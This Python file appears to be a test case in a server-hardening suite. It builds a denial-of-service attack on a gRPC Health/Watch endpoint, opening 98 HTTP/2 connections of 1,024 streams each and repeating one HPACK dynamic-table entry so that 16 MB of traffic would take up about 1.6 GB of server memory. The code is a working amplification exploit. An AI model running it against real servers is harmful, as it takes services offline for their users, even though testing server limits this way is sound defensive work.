"""Health/Watch needs no token: 98 connections open 1,024 streams each, with headers of 16 KB that
come from one entry of HPACK's dynamic table. The attack sends 16 MB. If the server had no limits,
the streams would occupy all places for calls, and 1.6 GB of memory.
"""

from attacker import frame, http2, literal, text

CONNECTIONS, STREAMS = 98, 1024
HEAD = http2.request_headers(b"/grpc.health.v1.Health/Watch")
LARGE = b"\x40\x01x" + text(b"y" * 3900)  # becomes entry 62 of the table
AGAIN = b"\xbe" * 3  # each byte is that entry again


def attack(attacker):
    first = frame(http2.HEADERS, http2.END_HEADERS, 1, HEAD + LARGE + AGAIN)
    more = b"".join(
        frame(http2.HEADERS, http2.END_HEADERS, stream, HEAD + literal(b"a", b"b") + AGAIN + b"\xbe")
        + frame(http2.DATA, http2.END_STREAM, stream, bytes(5))
        for stream in range(3, 2 * STREAMS, 2))
    connections = attacker.many(CONNECTIONS, lambda: attacker.http2(first + more, patience=1))
    attacker.over(None)
    return [] if connections else ["nobody could connect"]
